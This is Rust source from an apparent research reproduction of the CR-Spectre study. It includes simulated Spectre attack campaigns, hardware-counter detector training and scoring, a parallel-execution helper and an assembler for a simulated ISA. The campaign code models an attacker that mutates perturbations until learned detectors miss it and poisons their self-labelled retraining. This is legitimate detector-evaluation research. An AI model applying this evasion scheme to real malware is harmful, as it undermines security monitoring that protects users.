    let features = FeatureSet::paper_default();
    let mut phase = telemetry::span("fig5.train");
    let mut training = build_training_data(cfg, &Mibench::FIG4_HOSTS, &features);
    phase.field("rows", training.len());
    let noise = NoiseModel::fit(&training.x, cfg.noise_strength);
    noise.apply(&mut training.x, cfg.seed, streams::FIG5_TRAIN);
    // The four detector families train independently, one per worker.
    let hids: Vec<Hid> = par_map(HidKind::ALL.to_vec(), cfg.threads, |kind| {
        Hid::train(kind, HidMode::Offline, training.clone())
    });
    drop(phase);

    // Offline HIDs never learn between attempts, so every attempt is an
    // independent trial: simulate them all in parallel, then score in
    // attempt order.
    let per_attempt = par_map_indices(cfg.attempts, cfg.threads, |attempt| {
        let mut trial_span = telemetry::span("fig5.attempt");
        trial_span.field("attempt", attempt);
        // (a) plain Spectre, alternating variants (the paper averages
        // variants; alternation also provides attempt-to-attempt motion).
        let variant = SpectreVariant::ALL[attempt % 2];
        let outcome = spectre_trace(cfg, variant, attempt);
        let mut spectre_rows = outcome.attack_rows(&features);
        noise.apply(&mut spectre_rows, cfg.seed, streams::FIG5_SPECTRE + attempt as u64);
        // (b) CR-Spectre, one static perturbation.
        let mut attack = AttackConfig::new(Mibench::FIG4_HOSTS[attempt % 4])
            .with_perturb(PerturbParams::evasive_default());
        attack.machine = cfg.machine.clone();
        attack.sample_interval = jittered_interval(cfg.sample_interval, attempt);
        let outcome = run_cr_spectre(&attack).expect("attack launches");
        let mut cr_rows = outcome.attack_rows(&features);
        noise.apply(&mut cr_rows, cfg.seed, streams::FIG5_CR + attempt as u64);
        (spectre_rows, cr_rows)
    });

    // Scoring fans out per detector: each worker runs one trained HID
    // over every attempt's rows (batched classification inside
    // `detection_rate`). Each rate depends only on (hid, rows), so the
    // fan-out is bit-identical to the old serial double loop.
    let _score_phase = telemetry::span("fig5.score");
    let scored = par_map_indices(hids.len(), cfg.threads, |h| {
        let hid = &hids[h];
        let spectre: Vec<f64> =
            per_attempt.iter().map(|(rows, _)| hid.detection_rate(rows)).collect();
        let cr: Vec<f64> =
            per_attempt.iter().map(|(_, rows)| hid.detection_rate(rows)).collect();
        (spectre, cr)
    });
    let mut spectre_series = init_series();
    let mut cr_series = init_series();
    for (h, (spectre, cr)) in scored.into_iter().enumerate() {
        spectre_series[h].accuracy = spectre;
        cr_series[h].accuracy = cr;
    }
    EvasionResult { spectre: spectre_series, cr_spectre: cr_series }
}

/// Figure 6: **online** HIDs that retrain on every observed attempt.
/// Panel (b) is the full defense-aware loop of Figure 3: when any HID
/// detects the current variant (>80 %), the attacker mutates the
/// perturbation parameters before the next attempt.
pub fn fig6(cfg: &CampaignConfig) -> EvasionResult {
    let mut driver_span = telemetry::span("campaign.fig6");
    driver_span.field("threads", cfg.threads).field("attempts", cfg.attempts);
    let features = FeatureSet::paper_default();
    let mut phase = telemetry::span("fig6.train");
    let mut training = build_training_data(cfg, &Mibench::FIG4_HOSTS, &features);
    phase.field("rows", training.len());
    let noise = NoiseModel::fit(&training.x, cfg.noise_strength);
    noise.apply(&mut training.x, cfg.seed, streams::FIG6_TRAIN);
    drop(phase);

    // Panel (a): online HIDs vs plain Spectre. Each detector's
    // score-then-retrain chain over the attempts is a serial fold, but
    // the four detectors never read each other's state — so the attack
    // traces fan out first, then each detector folds on its own worker.
    let hids: Vec<Hid> = par_map(HidKind::ALL.to_vec(), cfg.threads, |kind| {
        Hid::train(kind, HidMode::Online, training.clone())
    });
    let attempt_rows = par_map_indices(cfg.attempts, cfg.threads, |attempt| {
        let mut trial_span = telemetry::span("fig6.spectre_attempt");
        trial_span.field("attempt", attempt);
        let variant = SpectreVariant::ALL[attempt % 2];
        let outcome = spectre_trace(cfg, variant, attempt);
        let mut rows = outcome.attack_rows(&features);
        noise.apply(&mut rows, cfg.seed, streams::FIG6_SPECTRE + attempt as u64);
        rows
    });
    let spectre_score_phase = telemetry::span("fig6.score_spectre");
    let mut spectre_series = init_series();
    let folded = par_map(hids, cfg.threads, |mut hid| {
        let mut accuracy = Vec::with_capacity(attempt_rows.len());
        for rows in &attempt_rows {
            accuracy.push(hid.detection_rate(rows));
            // The defender labels the observed windows and retrains.
            hid.observe(rows, Label::Attack);
        }
        accuracy
    });
    for (series, accuracy) in spectre_series.iter_mut().zip(folded) {
        series.accuracy = accuracy;
    }
    drop(spectre_score_phase);

    // Panel (b): online HIDs vs dynamically perturbed CR-Spectre. The
    // attempt chain is inherently serial — the next variant depends on
    // whether this one was detected — but the benign corpus the defender
    // grows each attempt is a per-application fan-out.
    let mut hids: Vec<Hid> = par_map(HidKind::ALL.to_vec(), cfg.threads, |kind| {
        Hid::train(kind, HidMode::Online, training.clone())
    });
    let mut cr_series = init_series();
    let mut generator = VariantGenerator::new(cfg.seed);
    let mut variant = generator.next_variant();
    for attempt in 0..cfg.attempts {
        let mut trial_span = telemetry::span("fig6.attempt");
        trial_span.field("attempt", attempt);
        let mut attack =
            AttackConfig::new(Mibench::FIG4_HOSTS[attempt % 4]).with_perturb(variant);
        attack.machine = cfg.machine.clone();
        attack.sample_interval = jittered_interval(cfg.sample_interval, attempt);
        let outcome = run_cr_spectre(&attack).expect("attack launches");
        let mut rows = outcome.attack_rows(&features);
        noise.apply(&mut rows, cfg.seed, streams::FIG6_CR + attempt as u64);
        // "The benign applications running on the system are also profiled
        // and fed to the HID" — the defender's corpus keeps growing on
        // both sides, which is what the camouflaged variants exploit.
        let mut benign_rows: Vec<Vec<f64>> =
            par_map(BenignApp::ALL.to_vec(), cfg.threads, |app| {
                let trace = profile_standalone(
                    &cfg.machine,
                    &app.image(),
                    jittered_interval(cfg.sample_interval, attempt + 5),
                );
                trace.feature_rows(features.events())
            })
            .into_iter()
            .flatten()
            .collect();
        noise.apply(&mut benign_rows, cfg.seed, streams::FIG6_BENIGN + attempt as u64);
        // Each detector scores and retrains on its own worker: its rate
        // and corpus update depend only on (hid, rows, benign_rows),
        // never on a sibling detector. The adaptation decision
        // aggregates the returned rates in family order afterwards, so
        // the variant chain is unchanged at any thread count.
        let scored = par_map(std::mem::take(&mut hids), cfg.threads, |mut hid| {
            let rate = hid.detection_rate(&rows);
            // The defender can only label what it (or the human in the
            // loop) actually flags. A detected or suspicious run (> 55 %)
            // is investigated and retrained as attack; a run the HID
            // classified benign can only be self-labelled window by
            // window — the semi-supervised poisoning the dynamic
            // perturbations exploit.
            if Hid::evaded(rate) {
                hid.ingest_self_labeled(&rows);
            } else {
                hid.ingest(&rows, Label::Attack);
            }
            hid.ingest(&benign_rows, Label::Benign);
            hid.retrain();
            (rate, hid)
        });
        let mut detected_by_any = false;
        let mut evaded_by_all = true;
        for (series, (rate, hid)) in cr_series.iter_mut().zip(scored) {
            series.accuracy.push(rate);
            if Hid::detected(rate) {
                detected_by_any = true;
            }
            if !Hid::evaded(rate) {
                evaded_by_all = false;
            }
            hids.push(hid);
        }
        trial_span.field("detected", detected_by_any).field("evaded", evaded_by_all);
        if detected_by_any || !evaded_by_all {
            // Defense-aware adaptation (Figure 3): the attacker's goal is
            // < 55 % — any detector still above the evasion bar triggers
            // a new variant.
            variant = generator.next_variant();
            telemetry::counter("fig6.adaptations", 1);
        }
    }
    EvasionResult { spectre: spectre_series, cr_spectre: cr_series }
}

fn init_series() -> Vec<DetectorSeries> {
    HidKind::ALL
        .iter()
        .map(|&kind| DetectorSeries { kind, accuracy: Vec::new() })
        .collect()
}

// ---------------------------------------------------------------------
// Table I
// ---------------------------------------------------------------------

/// One Table-I row: host IPC in the three scenarios.
#[derive(Debug, Clone)]
pub struct Table1Row {
    /// The benchmark.
    pub host: Mibench,
    /// IPC of the original (unattacked) application.
    pub ipc_original: f64,
    /// Host IPC under CR-Spectre with an offline-type HID (static
    /// perturbation).
    pub ipc_offline: f64,
    /// Host IPC under CR-Spectre with an online-type HID (dynamic
    /// variants).
    pub ipc_online: f64,
}

impl Table1Row {
    /// Relative overhead of the offline scenario (positive = slower).
    pub fn overhead_offline(&self) -> f64 {
        1.0 - self.ipc_offline / self.ipc_original
    }

    /// Relative overhead of the online scenario.
    pub fn overhead_online(&self) -> f64 {
        1.0 - self.ipc_online / self.ipc_original
    }
}

/// Table I: IPC of each benchmark, original vs under CR-Spectre. The
/// host's IPC is computed over the windows **outside** the injection
/// spans — the application's own work, which is what the paper's
/// "negligible overhead on the host" claim is about. `iterations` runs
/// are averaged (paper: 100).
pub fn table1(cfg: &CampaignConfig, iterations: usize) -> Vec<Table1Row> {
    let mut driver_span = telemetry::span("campaign.table1");
    driver_span.field("threads", cfg.threads).field("iterations", iterations);
    // Variant generation is a cheap serial RNG walk; do it up front so
    // the expensive simulations become a flat host × iteration fan-out
    // whose every job is a pure function of its indices.
    let jobs: Vec<(Mibench, usize, PerturbParams)> = Mibench::TABLE1_ROWS
        .iter()
        .flat_map(|&host| {
            let mut generator = VariantGenerator::new(cfg.seed);
            // The online scenario runs *mutated* variants (generation
            // ≥ 2); generation 1 is the static perturbation the offline
            // scenario already measures.
            let _ = generator.next_variant();
            (0..iterations)
                .map(|i| (host, i, generator.next_variant()))
                .collect::<Vec<_>>()
        })
        .collect();
    let measurements = par_map(jobs, cfg.threads, |(host, i, online_variant)| {
        let mut trial_span = telemetry::span("table1.job");
        trial_span.field("host", host.name()).field("iteration", i);
        let interval = jittered_interval(cfg.sample_interval, i);
        // Original application.
        let trace = profile_standalone(&cfg.machine, &standalone_image(host), interval);
        let original = trace.outcome.ipc();
        // CR-Spectre, offline-type HID: static perturbation.
        let mut attack = AttackConfig::new(host).with_perturb(PerturbParams::evasive_default());
        attack.machine = cfg.machine.clone();
        attack.sample_interval = interval;
        let outcome = run_cr_spectre(&attack).expect("attack launches");
        let offline = host_ipc(&outcome);
        // CR-Spectre, online-type HID: dynamic variant per run.
        let mut attack = AttackConfig::new(host).with_perturb(online_variant);
        attack.machine = cfg.machine.clone();
        attack.sample_interval = interval;
        let outcome = run_cr_spectre(&attack).expect("attack launches");
        let online = host_ipc(&outcome);
        (original, offline, online)
    });

    // Accumulate in job order (host-major, iteration-minor): float sums
    // see the exact same association at every thread count.
    let n = iterations as f64;
    Mibench::TABLE1_ROWS
        .iter()
        .enumerate()
        .map(|(host_index, &host)| {
            let per_host = &measurements[host_index * iterations..(host_index + 1) * iterations];
            let (mut original, mut offline, mut online) = (0.0, 0.0, 0.0);
            for &(o, off, on) in per_host {
                original += o;
                offline += off;
                online += on;
            }
            Table1Row {
                host,
                ipc_original: original / n,
                ipc_offline: offline / n,
                ipc_online: online / n,
            }
        })
        .collect()
}

/// Host-attributed IPC: instructions over cycles in the windows that do
/// **not** overlap an injection span.
pub fn host_ipc(outcome: &AttackOutcome) -> f64 {
    let mut instructions = 0u64;
    let mut cycles = 0u64;
    let mut window_start = 0u64;
    for sample in &outcome.trace.samples {
        let window_end = sample.at_cycle;
        let overlaps = outcome.injection_spans.iter().any(|&(s, e)| {
            let e = if e == u64::MAX { window_end } else { e };
            window_end >= s && window_start <= e
        });
        if !overlaps {
            instructions += sample.count(HpcEvent::Instructions);
            cycles += sample.count(HpcEvent::Cycles);
        }
        window_start = window_end;
    }
    if cycles == 0 {
        0.0
    } else {
        instructions as f64 / cycles as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn training_data_is_balanced_and_labelled() {
        let cfg = CampaignConfig::smoke();
        let features = FeatureSet::paper_default();
        let data = build_training_data(&cfg, &[Mibench::Crc32], &features);
        assert!(data.len() > 100, "got {}", data.len());
        let attacks = data.attack_count();
        let benign = data.len() - attacks;
        assert!(attacks > 50 && benign > 50, "attacks {attacks} benign {benign}");
        assert!(data.x.iter().all(|r| r.len() == 4));
    }

    #[test]
    fn fig4_shape_holds_at_smoke_scale() {
        let cfg = CampaignConfig::smoke();
        let rows = fig4(&cfg);
        assert_eq!(rows.len(), 4);
        for row in &rows {
            assert_eq!(row.accuracies.len(), 5);
            // The paper's claim: ≥ 2 features ⇒ high accuracy.
            let acc4 = row.accuracies.iter().find(|(s, _)| *s == 4).expect("size 4").1;
            assert!(acc4 > 0.8, "{}: size-4 accuracy {acc4}", row.host);
        }
    }

    #[test]
    fn distinct_noise_streams_never_replay() {
        // Regression: NoiseModel::apply used to take a raw per-call seed,
        // which let two call sites accidentally draw the very same noise.
        // Routed through derive_seed, distinct (base, stream) pairs must
        // always produce distinct noise vectors.
        let reference = vec![vec![10.0; 6]; 32];
        let noise = NoiseModel::fit(&reference, 3.0);
        let mut seen = std::collections::HashSet::new();
        let mut streams: Vec<u64> = (0..48).collect();
        streams.extend([
            streams::FIG4_HOST,
            streams::FIG5_TRAIN,
            streams::FIG5_SPECTRE,
            streams::FIG5_SPECTRE + 1,
            streams::FIG5_CR,
            streams::FIG6_TRAIN,
            streams::FIG6_SPECTRE,
            streams::FIG6_CR,
            streams::FIG6_BENIGN,
        ]);
        for stream in streams {
            let mut rows = vec![vec![0.0; 6]; 2];
            noise.apply(&mut rows, 0xda7e, stream);
            assert!(
                seen.insert(format!("{rows:?}")),
                "stream {stream:#x} replayed another stream's noise vector"
            );
        }
    }

    #[test]
    fn noise_fit_degenerate_inputs_yield_identity() {
        // Empty corpus, zero-width rows, non-positive or non-finite
        // strength: all must give the identity model, not NaN amplitudes.
        for model in [
            NoiseModel::fit(&[], 3.0),
            NoiseModel::fit(&[vec![], vec![]], 3.0),
            NoiseModel::fit(&[vec![1.0, 2.0]], 0.0),
            NoiseModel::fit(&[vec![1.0, 2.0]], -1.0),
            NoiseModel::fit(&[vec![1.0, 2.0]], f64::NAN),
            NoiseModel::fit(&[vec![1.0, 2.0]], f64::INFINITY),
            NoiseModel::identity(),
        ] {
            assert!(model.is_identity(), "{model:?}");
            let mut rows = vec![vec![1.5, -2.5], vec![0.0, 4.0]];
            let before = format!("{rows:?}");
            model.apply(&mut rows, 0xda7e, 1);
            assert_eq!(format!("{rows:?}"), before, "{model:?} perturbed rows");
        }
    }

    #[test]
    fn noise_fit_nonfinite_columns_become_identity_columns() {
        // A NaN/∞-contaminated column must not poison its neighbours or
        // panic `apply` (random_range(0.0..∞) would).
        let rows = vec![vec![f64::NAN, 10.0, f64::INFINITY], vec![1.0, 10.0, 2.0]];
        let model = NoiseModel::fit(&rows, 3.0);
        assert!(!model.is_identity(), "healthy column keeps its amplitude");
        let mut out = vec![vec![0.0, 0.0, 0.0]];
        model.apply(&mut out, 0xda7e, 2);
        assert_eq!(out[0][0], 0.0, "NaN column untouched");
        assert_eq!(out[0][2], 0.0, "infinite column untouched");
        assert!(out[0][1] > 0.0 && out[0][1].is_finite(), "healthy column perturbed");
    }

    #[test]
    fn noise_application_is_reproducible_per_stream() {
        let reference = vec![vec![10.0; 6]; 32];
        let noise = NoiseModel::fit(&reference, 3.0);
        let mut a = vec![vec![0.0; 6]; 2];
        let mut b = vec![vec![0.0; 6]; 2];
        noise.apply(&mut a, 0xda7e, 7);
        noise.apply(&mut b, 0xda7e, 7);
        assert_eq!(format!("{a:?}"), format!("{b:?}"));
    }

    #[test]
    fn host_ipc_excludes_attack_windows() {
        let attack = AttackConfig::new(Mibench::Bitcount50M)
            .with_perturb(PerturbParams::evasive_default());
        let outcome = run_cr_spectre(&attack).expect("attack launches");
        let host_only = host_ipc(&outcome);
        assert!(host_only > 0.0);
        // Removing the injected windows must recover (approximately) the
        // unattacked application's own IPC — the Table-I invariant.
        let baseline = profile_standalone(
            &CampaignConfig::smoke().machine,
            &standalone_image(Mibench::Bitcount50M),
            2_000,
        )
        .outcome
        .ipc();
        let overhead = (1.0 - host_only / baseline).abs();
        assert!(
            overhead < 0.05,
            "host IPC {host_only} deviates {:.1}% from baseline {baseline}",
            overhead * 100.0
        );
    }

    #[test]
    fn table1_overheads_are_small() {
        let cfg = CampaignConfig::smoke();
        let rows = table1(&cfg, 1);
        assert_eq!(rows.len(), 5);
        for row in &rows {
            assert!(row.ipc_original > 0.1, "{}: {row:?}", row.host);
            assert!(
                row.overhead_offline().abs() < 0.15,
                "{}: offline overhead {}",
                row.host,
                row.overhead_offline()
            );
            assert!(
                row.overhead_online().abs() < 0.15,
                "{}: online overhead {}",
                row.host,
                row.overhead_online()
            );
        }
    }
}

//! Deterministic parallel execution for campaign fan-outs.
//!
//! Every evaluation artifact of the paper (Figures 4–6, Table I) is a
//! fan-out of *independent* simulator trials: per-host benign traces,
//! per-variant Spectre runs, per-attempt CR-Spectre series. This module
//! provides the two primitives that let [`crate::campaign`] execute
//! those fan-outs on every available core **without changing a single
//! output bit**:
//!
//! * [`par_map`] — a dependency-free scoped-thread map that preserves
//!   input order and propagates worker panics. Work is handed out by an
//!   atomic cursor, but each result lands in the slot of its input
//!   index, so the output is independent of scheduling.
//! * [`derive_seed`] — per-trial RNG seed derivation (splitmix64-style
//!   finalizer). Trials never *share* a generator — each derives its own
//!   seed from `(base, stream)` — so the random stream a trial sees is a
//!   pure function of its index, not of which thread ran it first.
//!
//! Together these give the equivalence guarantee locked in by
//! `crates/core/tests/parallel_equivalence.rs`: for any driver, the
//! result at `threads = 1` is byte-identical to the result at any other
//! thread count.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

use cr_spectre_telemetry as telemetry;

/// The default worker count: every core the host offers.
pub fn default_threads() -> usize {
    std::thread::available_parallelism().map_or(1, |n| n.get())
}

/// Derives the RNG seed of one trial from a campaign base seed and the
/// trial's logical stream index.
///
/// The map `stream ↦ derive_seed(base, stream)` is a bijection for every
/// fixed `base` (an odd-multiplier affine step followed by the
/// splitmix64 finalizer, both invertible mod 2⁶⁴), so distinct trials
/// are guaranteed distinct seeds — no birthday collisions, no trial
/// accidentally replaying another's noise. Being a pure function, it
/// also makes every trial's randomness independent of execution order:
/// the property the serial-vs-parallel equivalence suite relies on.
pub fn derive_seed(base: u64, stream: u64) -> u64 {
    let mut z = base ^ stream.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Maps `f` over `items` on up to `threads` scoped worker threads,
/// returning results in input order.
///
/// * **Order-preserving:** `par_map(v, t, f)` equals
///   `v.into_iter().map(f).collect()` element-for-element, for every
///   `t`.
/// * **Panic-propagating:** if `f` panics on any item, the panic payload
///   resumes on the caller after all workers have stopped (no result is
///   silently dropped).
/// * **Dependency-free:** built on [`std::thread::scope`]; the build is
///   offline and must not pull rayon.
///
/// `threads == 1` (or a single item) short-circuits to a plain serial
/// map with zero thread overhead, which is also what makes the serial
/// baseline of the equivalence tests trivially trustworthy.
pub fn par_map<T, U, F>(items: Vec<T>, threads: usize, f: F) -> Vec<U>
where
    T: Send,
    U: Send,
    F: Fn(T) -> U + Sync,
{
    let n = items.len();
    let threads = threads.max(1).min(n.max(1));
    // Telemetry here observes scheduling (queue waits, job runtimes); it
    // never feeds back into `f`, so outputs stay bit-identical whether a
    // recorder is installed or not.
    let recording = telemetry::enabled();
    let mut span = telemetry::span("par_map");
    span.field("jobs", n).field("threads", threads);
    if threads == 1 || n <= 1 {
        if recording {
            telemetry::counter("par_map.jobs", n as u64);
        }
        return items
            .into_iter()
            .map(|item| {
                if recording {
                    let t0 = std::time::Instant::now();
                    let result = f(item);
                    telemetry::histogram(
                        "par_map.job_us",
                        t0.elapsed().as_secs_f64() * 1_000_000.0,
                    );
                    result
                } else {
                    f(item)
                }
            })
            .collect();
    }

    // Each input owns a slot; workers claim indices from the cursor and
    // write results into the matching output slot, so ordering is a
    // property of the data layout, not of scheduling.
    let input: Vec<Mutex<Option<T>>> =
        items.into_iter().map(|item| Mutex::new(Some(item))).collect();
    let output: Vec<Mutex<Option<U>>> = (0..n).map(|_| Mutex::new(None)).collect();
    let cursor = AtomicUsize::new(0);
    let f = &f;

    std::thread::scope(|scope| {
        let workers: Vec<_> = (0..threads)
            .map(|_| {
                scope.spawn(|| loop {
                    let claim_start = recording.then(std::time::Instant::now);
                    let index = cursor.fetch_add(1, Ordering::Relaxed);
                    if index >= n {
                        break;
                    }
                    let item = input[index]
                        .lock()
                        .expect("input slot poisoned")
                        .take()
                        .expect("each index is claimed exactly once");
                    let exec_start = if let Some(t0) = claim_start {
                        // Claim phase: cursor bump + slot lock/take.
                        telemetry::histogram(
                            "par_map.claim_us",
                            t0.elapsed().as_secs_f64() * 1_000_000.0,
                        );
                        telemetry::counter("par_map.jobs", 1);
                        Some(std::time::Instant::now())
                    } else {
                        None
                    };
                    let result = f(item);
                    if let Some(t0) = exec_start {
                        telemetry::histogram(
                            "par_map.job_us",
                            t0.elapsed().as_secs_f64() * 1_000_000.0,
                        );
                    }
                    *output[index].lock().expect("output slot poisoned") = Some(result);
                })
            })
            .collect();
        for worker in workers {
            if let Err(payload) = worker.join() {
                // Re-raise on the caller; `scope` joins the remaining
                // workers before unwinding escapes.
                std::panic::resume_unwind(payload);
            }
        }
    });

    output
        .into_iter()
        .map(|slot| {
            slot.into_inner()
                .expect("output slot poisoned")
                .expect("every index was processed")
        })
        .collect()
}

/// [`par_map`] over `0..count`, the common "fan out by trial index"
/// shape of the campaign drivers.
pub fn par_map_indices<U, F>(count: usize, threads: usize, f: F) -> Vec<U>
where
    U: Send,
    F: Fn(usize) -> U + Sync,
{
    par_map((0..count).collect(), threads, f)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn par_map_matches_serial_map() {
        let items: Vec<u64> = (0..257).collect();
        let serial: Vec<u64> = items.iter().map(|x| x * x + 1).collect();
        for threads in [1, 2, 3, 4, 8, 64] {
            let parallel = par_map(items.clone(), threads, |x| x * x + 1);
            assert_eq!(parallel, serial, "threads = {threads}");
        }
    }

    #[test]
    fn par_map_preserves_order_under_skewed_load() {
        // Early items sleep, late items return instantly: any
        // completion-order bug would scramble the output.
        let out = par_map((0..32u64).collect(), 8, |i| {
            if i < 4 {
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
            i
        });
        assert_eq!(out, (0..32).collect::<Vec<_>>());
    }

    #[test]
    fn par_map_handles_empty_input() {
        let out: Vec<u32> = par_map(Vec::<u32>::new(), 4, |x| x + 1);
        assert!(out.is_empty());
    }

    #[test]
    fn par_map_handles_single_item() {
        assert_eq!(par_map(vec![41], 4, |x| x + 1), vec![42]);
    }

    #[test]
    fn par_map_handles_fewer_items_than_threads() {
        assert_eq!(par_map(vec![1, 2, 3], 64, |x| x * 10), vec![10, 20, 30]);
    }

    #[test]
    fn par_map_propagates_panics() {
        let result = std::panic::catch_unwind(|| {
            par_map((0..16).collect::<Vec<i32>>(), 4, |x| {
                if x == 7 {
                    panic!("trial 7 exploded");
                }
                x
            })
        });
        let payload = result.expect_err("panic must propagate");
        let message = payload
            .downcast_ref::<&str>()
            .copied()
            .map(String::from)
            .or_else(|| payload.downcast_ref::<String>().cloned())
            .unwrap_or_default();
        assert!(message.contains("trial 7 exploded"), "payload: {message:?}");
    }

    #[test]
    fn par_map_indices_counts_from_zero() {
        assert_eq!(par_map_indices(4, 2, |i| i * 2), vec![0, 2, 4, 6]);
    }

    #[test]
    fn derive_seed_differs_across_streams_and_bases() {
        let a = derive_seed(1, 0);
        let b = derive_seed(1, 1);
        let c = derive_seed(2, 0);
        assert_ne!(a, b);
        assert_ne!(a, c);
        // And is stable (a pure function, same on every machine).
        assert_eq!(derive_seed(0xda7e, 5), derive_seed(0xda7e, 5));
    }
}

//! Programmatic assembler: build linked [`Image`]s instruction by
//! instruction.
//!
//! [`Asm`] is a two-pass assembler. The first pass records instructions,
//! label references and data directives; [`Asm::build`] resolves labels,
//! lays out sections (`.text` at offset 0, then `.rodata`, then `.data`,
//! each page-aligned) and emits relocation records for absolute-address
//! references so the loader can rebase the image under ASLR.
//!
//! # Examples
//!
//! ```
//! use cr_spectre_asm::builder::Asm;
//! use cr_spectre_sim::isa::{AluOp, Reg};
//!
//! let mut asm = Asm::new();
//! asm.label("main");
//! asm.ldi(Reg::R1, 40);
//! asm.alui(AluOp::Add, Reg::R1, Reg::R1, 2);
//! asm.halt();
//! let image = asm.build("demo")?;
//! assert_eq!(image.symbol("main"), Some(0));
//! # Ok::<(), cr_spectre_asm::AsmError>(())
//! ```

use std::collections::BTreeMap;
use std::fmt;

use cr_spectre_sim::image::{Image, ImageSegment, Reloc, RelocKind, SegKind};
use cr_spectre_sim::isa::{AluOp, BranchCond, Instr, Reg, Width, INSTR_BYTES};
use cr_spectre_sim::mem::PAGE_SIZE;

/// Errors produced while assembling.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AsmError {
    /// A referenced label was never defined.
    UndefinedLabel(String),
    /// The same label was defined twice.
    DuplicateLabel(String),
    /// A branch target is too far for the 32-bit offset field.
    OffsetOverflow(String),
}

impl fmt::Display for AsmError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AsmError::UndefinedLabel(l) => write!(f, "undefined label {l:?}"),
            AsmError::DuplicateLabel(l) => write!(f, "duplicate label {l:?}"),
            AsmError::OffsetOverflow(l) => write!(f, "branch offset to {l:?} overflows"),
        }
    }
}

impl std::error::Error for AsmError {}

/// One pending text item (exactly one encoded instruction each).
#[derive(Debug, Clone)]
enum TextItem {
    /// A fully resolved instruction.
    Fixed(Instr),
    /// Conditional branch to a label (PC-relative, resolved at build).
    Branch(BranchCond, Reg, Reg, String),
    /// Unconditional jump to a label.
    JmpTo(String),
    /// Call to a label.
    CallTo(String),
    /// Load the absolute address of a label (`LDI` + `Imm32` relocation).
    La(Reg, String),
}

/// One pending data item.
#[derive(Debug, Clone)]
enum DataItem {
    /// Raw bytes.
    Bytes(Vec<u8>),
    /// Zero-filled space.
    Space(u64),
    /// A 64-bit constant.
    Quad(u64),
    /// The absolute address of a label (`Abs64` relocation).
    QuadLabel(String),
}

impl DataItem {
    fn len(&self) -> u64 {
        match self {
            DataItem::Bytes(b) => b.len() as u64,
            DataItem::Space(n) => *n,
            DataItem::Quad(_) | DataItem::QuadLabel(_) => 8,
        }
    }
}

/// Which section a label lives in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Section {
    Text,
    Rodata,
    Data,
}

/// The two-pass programmatic assembler.
#[derive(Debug, Clone, Default)]
pub struct Asm {
    text: Vec<TextItem>,
    rodata: Vec<DataItem>,
    data: Vec<DataItem>,
    /// label → (section, item-granular offset within that section)
    labels: BTreeMap<String, (Section, u64)>,
    entry: Option<String>,
}

impl Asm {
    /// Creates an empty program.
    pub fn new() -> Asm {
        Asm::default()
    }

    /// Current `.text` offset in bytes (address of the *next* instruction,
    /// image-relative).
    pub fn here(&self) -> u64 {
        self.text.len() as u64 * INSTR_BYTES as u64
    }

    /// Defines a label at the current `.text` position.
    ///
    /// # Panics
    ///
    /// Panics on duplicate labels — label names are a programming contract.
    pub fn label(&mut self, name: impl Into<String>) {
        let name = name.into();
        let prev = self.labels.insert(name.clone(), (Section::Text, self.here()));
        assert!(prev.is_none(), "duplicate label {name:?}");
    }

    /// Selects `label` as the entry point (default: offset 0).
    pub fn entry(&mut self, label: impl Into<String>) {
        self.entry = Some(label.into());
    }

    /// Emits a raw instruction.
    pub fn instr(&mut self, i: Instr) {
        self.text.push(TextItem::Fixed(i));
    }

    // --- instruction helpers -----------------------------------------

    /// `nop`
    pub fn nop(&mut self) {
        self.instr(Instr::Nop);
    }

    /// `halt`
    pub fn halt(&mut self) {
        self.instr(Instr::Halt);
    }

    /// `ldi rd, imm`
    pub fn ldi(&mut self, rd: Reg, imm: i32) {
        self.instr(Instr::Ldi(rd, imm));
    }

    /// `mov rd, rs`
    pub fn mov(&mut self, rd: Reg, rs: Reg) {
        self.instr(Instr::Mov(rd, rs));
    }

    /// Three-operand ALU op.
    pub fn alu(&mut self, op: AluOp, rd: Reg, rs1: Reg, rs2: Reg) {
        self.instr(Instr::Alu(op, rd, rs1, rs2));
    }

    /// Immediate ALU op.
    pub fn alui(&mut self, op: AluOp, rd: Reg, rs1: Reg, imm: i32) {
        self.instr(Instr::Alui(op, rd, rs1, imm));
    }

    /// Load of the given width: `rd = mem[rs1 + imm]`.
    pub fn ld(&mut self, w: Width, rd: Reg, rs1: Reg, imm: i32) {
        self.instr(Instr::Ld(w, rd, rs1, imm));
    }

    /// Store of the given width: `mem[rs1 + imm] = rs2`.
    pub fn st(&mut self, w: Width, rs1: Reg, rs2: Reg, imm: i32) {
        self.instr(Instr::St(w, rs1, rs2, imm));
    }

    /// Conditional branch to `label`.
    pub fn br(&mut self, cond: BranchCond, rs1: Reg, rs2: Reg, label: impl Into<String>) {
        self.text.push(TextItem::Branch(cond, rs1, rs2, label.into()));
    }

    /// Unconditional jump to `label`.
    pub fn jmp(&mut self, label: impl Into<String>) {
        self.text.push(TextItem::JmpTo(label.into()));
    }

    /// Indirect jump through `rs`.
    pub fn jmpr(&mut self, rs: Reg) {
        self.instr(Instr::JmpR(rs));
    }

    /// Call `label`.
    pub fn call(&mut self, label: impl Into<String>) {
        self.text.push(TextItem::CallTo(label.into()));
    }

    /// Indirect call through `rs`.
    pub fn callr(&mut self, rs: Reg) {
        self.instr(Instr::CallR(rs));
    }

    /// `ret`
    pub fn ret(&mut self) {
        self.instr(Instr::Ret);
    }

    /// `push rs`
    pub fn push(&mut self, rs: Reg) {
        self.instr(Instr::Push(rs));
    }

    /// `pop rd`
    pub fn pop(&mut self, rd: Reg) {
        self.instr(Instr::Pop(rd));
    }

    /// `clflush [rs1 + imm]`
    pub fn clflush(&mut self, rs1: Reg, imm: i32) {
        self.instr(Instr::ClFlush(rs1, imm));
    }

    /// `mfence`
    pub fn mfence(&mut self) {
        self.instr(Instr::MFence);
    }

    /// `rdtsc rd`
    pub fn rdtsc(&mut self, rd: Reg) {
